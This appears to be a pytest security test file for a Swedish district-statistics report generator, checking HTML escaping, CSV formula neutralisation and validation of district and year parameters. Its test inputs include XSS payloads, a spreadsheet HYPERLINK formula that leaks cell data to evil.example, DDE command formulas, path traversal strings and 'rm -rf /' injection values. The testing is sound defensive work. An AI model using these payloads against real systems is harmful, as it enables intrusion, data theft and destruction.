"""Injection: text from inputs is escaped in HTML and neutralised in CSV downloads; report
parameters are validated before anything runs and output names come from canonical codes only."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from urllib.parse import unquote

import pandas as pd
import pytest
from bs4 import BeautifulSoup

from evalkit import clean
from evalkit.build import plan
from evalkit.present import page, projects, tables
from evalkit.present.area import resolve

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"klicka")'
HTML_NAME = re.compile(r"^[a-z0-9-]+(_\d{4}-\d{4})?\.html$")


def _csv_cells(html: str) -> list[list[str]]:
    """The CSV behind the table's download link (data: URI), parsed as Excel would split it."""
    link = BeautifulSoup(html, "html.parser").find("a", href=re.compile("^data:text/csv"))
    text = unquote(link["href"].split(",", 1)[1])
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def _assert_no_markup(html: str) -> None:
    soup = BeautifulSoup(html, "html.parser")
    assert not soup.find_all(["script", "img", "iframe"]), html
    assert not any(attr.startswith("on") for tag in soup.find_all(True) for attr in tag.attrs)


@pytest.fixture()
def hostile_register(tmp_path):
    """A temporary copy of the project register with hostile text in names, board and note."""
    source = clean.listed_path("projects")
    lines = source.read_text(encoding="utf-8").splitlines()
    header = lines[0].split(";")
    hostile = []
    for name, board, note in [(SCRIPT, IMG, FORMULA), (IMG, FORMULA, SCRIPT), (FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3")]:
        cells = dict.fromkeys(header, "")
        cells.update({"Projekt": name, "Vision": "Järva", "Tema": "stadsmiljö", "Ansvarig nämnd": board,
                      "Områden": "Tensta", "Beloppsstatus": "..", "Genomförandeplan": "okänd",
                      "Utvärdering": "okänd", "Källa": "test", "Anmärkning": note})
        hostile.append(";".join('"' + cells[h].replace('"', '""') + '"' for h in header))
    path = tmp_path / "ytterstadsprojekt.csv"
    path.write_text("\n".join(lines + hostile) + "\n", encoding="utf-8")
    result = clean.read_input(path, "projects")
    # clean sets every row with a formula-like text aside (issue 25) – all three hostile rows …
    set_aside = result.quarantine[result.quarantine["reason"] == clean.FORMULA_REASON]
    assert len(set_aside) == 3 and result.reconciles()
    assert not set(result.data["project"]) & {SCRIPT, IMG, FORMULA}
    # … so the present layer's own defence is tested on rows put past clean (as a researcher's own
    # frame would reach it): the same hostile texts on copies of a kept row
    base = result.data.iloc[[0, 0, 0]].reset_index(drop=True)
    base[["project", "board", "note"]] = [[SCRIPT, IMG, FORMULA], [IMG, FORMULA, SCRIPT],
                                          [FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]]
    return pd.concat([result.data, base], ignore_index=True)


@pytest.mark.parametrize("area", [None, "sd-tensta", "sdo-spanga-tensta"])
def test_project_names_are_escaped_in_html_and_neutralised_in_csv(hostile_register, area):
    html = projects.project_list(hostile_register, area and resolve(area))._repr_html_()
    _assert_no_markup(html)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    cells = [c for row in _csv_cells(html) for c in row]
    assert SCRIPT in cells  # text stays text in the CSV …
    for cell in cells:      # … but nothing starts like a formula
        assert not re.match(r"^[=+\-@\t\r]", cell) or re.fullmatch(r"-?\d[\d\s\u00a0,.]*%?", cell), cell
    assert "'" + FORMULA in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells


@pytest.mark.parametrize("text", [SCRIPT, IMG, FORMULA, "\"><svg onload=alert(1)>", "=1+1", "+1+1", "-1+1", "@A1",
                                  "\t=1", "\r=1", "javascript:alert(1)"])
def test_any_text_in_any_table_position_is_escaped_and_neutralised(text):
    frame = pd.DataFrame({text: [text, "1 234,5"], "Värde": [text, "-4,5"]})
    html = tables.table(frame, caption=text, numeric_columns=("Värde",))._repr_html_()
    _assert_no_markup(html)
    soup = BeautifulSoup(html, "html.parser")
    shown = [c.get_text() for c in soup.find_all(["th", "td", "caption"])]
    assert shown.count(text) == 4  # header, row header, cell, caption: shown as text
    link = soup.find("a", href=re.compile("^data:text/csv"))
    assert link["download"].endswith(".csv") and "/" not in link["download"] and ".." not in link["download"]
    rows = _csv_cells(html)
    for cell in [c for row in rows for c in row]:
        assert not re.match(r"^[=+\-@\t\r]", cell) or re.fullmatch(r"-?\d[\d\s\u00a0,.]*%?", cell), cell
    assert rows[2] == ["1 234,5", "-4,5"]  # plain numbers are left alone


@pytest.mark.parametrize("number", ["+3,1", "−3,1", "-4,5", "±0,0", "12,3 %", "+1 234,5", "-0,2\u00a0%"])
def test_numbers_never_get_a_quote(number):
    """Issue 25: positive changes were downloaded as text ('+3,1)."""
    assert tables.neutralise_cell(number) == number


@pytest.mark.parametrize("text", ["+cmd", "=1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "+3,1 procentenheter;=1",
                                  "\t=1", "-1e3", "+1-"])
def test_formula_like_text_gets_a_quote(text):
    assert tables.neutralise_cell(text) == "'" + text


def test_clean_sets_formula_text_aside_at_the_source(tmp_path):
    """A source text =HYPERLINK(...) reached data/indikatorer.csv in 60 cells (and every aggregate)."""
    path = tmp_path / "bistand.csv"
    path.write_text("Stadsdel;År;Täljare;Nämnare;Andel;Källa\n"
                    "Tensta;2019;500;10000;5,0;statistikenheten\n"
                    f"Husby;2019;400;8000;5,0;{FORMULA.replace(';', ',')}\n"
                    "Rinkeby;2019;300;6000;5,0;+46 8 123\n", encoding="utf-8")
    result = clean.read_input(path, indicator="ekonomiskt_bistand", level="stadsdel")
    assert result.reconciles() and list(result.data["area_code"]) == ["sd-tensta"]
    q = result.quarantine
    assert list(q["reason"]) == [clean.FORMULA_REASON] * 2 and set(q["column"]) == {"source"}
    assert all(v.startswith("'") for v in q["value"])  # the quarantine file runs nothing either


def test_page_text_helpers_escape():
    for helper in (page.heading, page.paragraph):
        _assert_no_markup(helper(SCRIPT + IMG)._repr_html_())


# --------------------------------------------------------------------------- parameters and output paths

@pytest.mark.parametrize("district", ["../../etc", "/tmp/x", "sd-tensta/../../x", "..", "sd-../x",
                                      "Atlantis", "C:\\Windows", "sd-tensta;rm -rf /", "$(id)", ""])
def test_unknown_and_path_like_districts_are_rejected(district):
    with pytest.raises(ValueError):
        plan.district_jobs([district])


@pytest.mark.parametrize("years", [(2020, 2015), (0, 2020), (2015, 99999), (-2020, 2020), (1900, 1901),
                                   ("2015; rm -rf /", 2020), (2015, "../2020")])
def test_insane_years_are_rejected(years):
    with pytest.raises(ValueError):
        plan.district_jobs(["sd-tensta"], years)


@pytest.mark.parametrize("district", ["Tensta", "TENSTA", "tensta ", "Skärholmens sdn", "Hässelby–Vällingby",
                                      "../Tensta", "sd-tensta\x00"])
def test_names_that_resolve_give_canonical_output_names(district):
    jobs = plan.district_jobs([district], (2016, 2019))
    assert len(jobs) == 1 and HTML_NAME.fullmatch(jobs[0].html_name)
    assert jobs[0].parameters["district"] in jobs[0].slug


def test_every_planned_output_name_derives_from_a_canonical_code():
    from evalkit import geography

    site = plan.site_jobs()
    assert [job.html_name for job in site] == ["hela-staden.html", "projekt.html", "metod-och-data.html"]
    jobs = plan.district_jobs() + plan.district_jobs(geography.stadsdelar()["stadsdel_code"].tolist(), (2006, 2020))
    assert len(jobs) == 27 + 117
    for job in jobs:
        assert HTML_NAME.fullmatch(job.html_name), job.html_name
        assert job.slug.split("_")[0] == job.parameters["district"]
        geography.area_name(job.parameters["district"])  # a known code


def test_cli_rejects_a_path_like_district_with_exit_2_and_one_line():
    proc = subprocess.run([sys.executable, "-m", "evalkit.cli", "build", "--district", "../x", "--no-progress"],
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 2, proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("fel:") and "'../x'" in lines[0] and "Traceback" not in proc.stderr
